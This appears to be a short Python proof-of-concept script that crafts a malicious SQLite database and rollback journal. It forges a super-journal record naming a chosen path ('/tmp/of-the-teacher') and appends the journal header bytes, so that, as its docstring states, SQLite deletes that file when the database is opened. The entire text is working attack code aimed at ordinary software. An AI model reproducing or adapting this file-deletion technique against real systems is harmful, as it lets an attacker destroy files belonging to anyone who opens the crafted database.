"""Leaves a rollback journal that names a super-journal: SQLite deletes that file when it opens the store."""

import os
import sqlite3
import struct

VICTIM = "/tmp/of-the-teacher"


def resume(world):
    spare = sqlite3.connect("spare.sqlite3", isolation_level=None)
    spare.execute("CREATE TABLE t (x)")
    spare.execute("PRAGMA cache_size=1")
    spare.execute("BEGIN")
    spare.executemany("INSERT INTO t VALUES (zeroblob(4000))", [()] * 50)
    journal = open("spare.sqlite3-journal", "rb").read()
    store = open("spare.sqlite3", "rb").read()
    name = VICTIM.encode()
    journal += struct.pack(">I", 2**30 // 4096 + 1) + name + struct.pack(">II", len(name), sum(name))
    open("journal.sqlite3", "wb").write(store)
    open("journal.sqlite3-journal", "wb").write(journal + bytes.fromhex("d9d505f920a163d7"))
    os._exit(0)
